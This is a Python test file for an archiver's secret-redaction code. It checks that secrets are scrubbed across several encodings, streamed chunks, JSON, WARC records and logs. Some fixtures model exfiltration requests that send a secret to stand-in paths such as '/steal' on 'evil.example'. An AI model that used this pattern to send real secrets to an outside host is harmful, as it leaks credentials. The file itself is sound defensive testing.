"""Secrets are found and replaced in every form they take: plain, percent-encoded,
form-encoded, base64 at any alignment; in bytes, text, JSON, chunk streams and logs."""

from __future__ import annotations

import base64
import io
import json
import logging
import random
import re
from urllib.parse import quote, quote_plus

import pytest
from warcio.archiveiterator import ArchiveIterator  # type: ignore[import-untyped]

from archiver.capture.warc import WarcWriter
from archiver.config import Settings
from archiver.secrets import REDACTED, Secrets, redact_logs, settings_secrets, url_secrets
from archiver.secrets._forms import forms

SECRET = "47:AbC/dé+f=gh ij~kl"


def _embedded(prefix: bytes, value: bytes) -> list[bytes]:
    return [
        value,
        quote(value.decode(), safe="").encode(),
        re.sub("%[0-9A-F]{2}", lambda m: m[0].lower(), quote(value.decode(), safe="")).encode(),
        quote_plus(value.decode(), safe="").encode(),
        base64.b64encode(prefix + value + b"tail"),
        base64.urlsafe_b64encode(prefix + value + b"x"),
    ]


@pytest.mark.parametrize("prefix", [b"", b"a", b"ab", b"abc", b"c=xs%3A"])
def test_found_in_every_form_and_alignment(prefix: bytes) -> None:
    secrets = Secrets(frozenset({SECRET}))
    for carrier in _embedded(prefix, SECRET.encode()):
        data = b"GET /steal?d=" + carrier + b" HTTP/1.1"
        assert secrets.found_in(data), carrier
        redacted, count = secrets.redact_bytes(data)
        assert count >= 1 and not secrets.found_in(redacted), carrier
        assert REDACTED.encode() in redacted


def test_short_values_and_unrelated_bytes_are_left_alone() -> None:
    assert forms("1") == frozenset() and forms("en_US") == frozenset()
    secrets = Secrets(frozenset({"en_US", SECRET}))
    text = "locale=en_US; lang=ru"
    assert not secrets.found_in(text) and secrets.redact_text(text) == text


def test_json_keys_values_and_cookie_fields() -> None:
    secrets = Secrets(frozenset({SECRET}))
    value = {"url": f"https://x.example/?t={quote(SECRET, safe='')}", "cookies": "a=b", "n": 3}
    assert secrets.redact_json(value) == {
        "url": f"https://x.example/?t={REDACTED}",
        "cookies": REDACTED,
        "n": 3,
    }


def test_streamed_redaction_matches_whole_redaction_at_every_chunk_size() -> None:
    secrets = Secrets(frozenset({SECRET, "second-secret-value"}))
    rng = random.Random(7)
    pieces = []
    for _ in range(200):
        pieces.append(bytes(rng.randrange(256) for _ in range(rng.randrange(0, 40))))
        pieces.append(rng.choice([*_embedded(b"ab", SECRET.encode()), b"second-secret-value"]))
    data = b"".join(pieces)
    whole, count = secrets.redact_bytes(data)
    assert count >= 200
    for size in (1, 2, 3, 7, 64, 1000, len(data)):
        chunks = [data[i : i + size] for i in range(0, len(data), size)]
        assert b"".join(secrets.redact_chunks(chunks)) == whole, size
        scanner = secrets.scanner()
        assert any(scanner.feed(c) for c in chunks)


def test_settings_credentials_are_secrets() -> None:
    settings = Settings.model_validate(
        {
            "network": {"proxy": "socks5://me:proxy-pass-word@127.0.0.1:9050"},
            "notify": {
                "webhook_url": "https://u:hook-password@hooks.example/x?token=tok-123456789",
                "smtp_password": "smtp-password-1",
            },
            "storage": {
                "database_url": "postgresql://postgres:db-password-1@db/archive",
                "s3_secret_access_key": "s3-secret-key-1",
            },
            "web": {"session_secret": "web-session-secret"},
        }
    )
    found = settings_secrets(settings)
    for value in (
        "proxy-pass-word", "hook-password", "tok-123456789", "smtp-password-1",
        "db-password-1", "web-session-secret", "s3-secret-key-1",
    ):  # fmt: skip
        assert found.found_in(f"..{value}.."), value
    assert not found.found_in("postgres"), "a user name is not a secret"
    assert url_secrets("not a url") == set()


def test_warc_writer_replaces_secrets_in_uri_head_and_body() -> None:
    secrets = Secrets(frozenset({SECRET}))
    encoded = quote(SECRET, safe="")
    stream = io.BytesIO()
    writer = WarcWriter(stream, secrets=secrets)
    writer.write_warcinfo(operator="Org", settings={"note": SECRET})
    head = f"GET /steal?c={encoded} HTTP/1.1\r\nHost: evil.example\r\n\r\n".encode()
    writer.write_request(f"https://evil.example/steal?c={encoded}", head, b"")
    body = b"x" * 3_000_000 + base64.b64encode(SECRET.encode()) + b"y" * 10
    response = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n"
    writer.write_response("https://evil.example/page", response, body)
    written = stream.getvalue()
    records = list(ArchiveIterator(io.BytesIO(written)))
    assert len(records) == 3
    blob = b"".join(
        r.rec_headers.to_str().encode() + r.content_stream().read() for r in records[:2]
    )
    stream.seek(0)
    blob += b"".join(r.content_stream().read() for r in list(ArchiveIterator(stream))[2:])
    assert not secrets.found_in(blob) and REDACTED.encode() in blob
    assert {r["where"] for r in writer.redactions} == {
        "metadata block", "WARC-Target-URI", "HTTP head", "body",
    }  # fmt: skip
    assert json.dumps(writer.redactions).find(SECRET) < 0


def test_log_records_are_scrubbed(caplog: pytest.LogCaptureFixture) -> None:
    value = "log-secret-" + "q" * 12
    redact_logs(Secrets(frozenset({value})))
    log = logging.getLogger("archiver.test")
    with caplog.at_level(logging.INFO):
        log.info("url https://x.example/?t=%s", quote(value, safe=""))
        try:
            raise RuntimeError(f"failed with {value}")
        except RuntimeError:
            log.exception("boom")
    assert value not in caplog.text and REDACTED in caplog.text
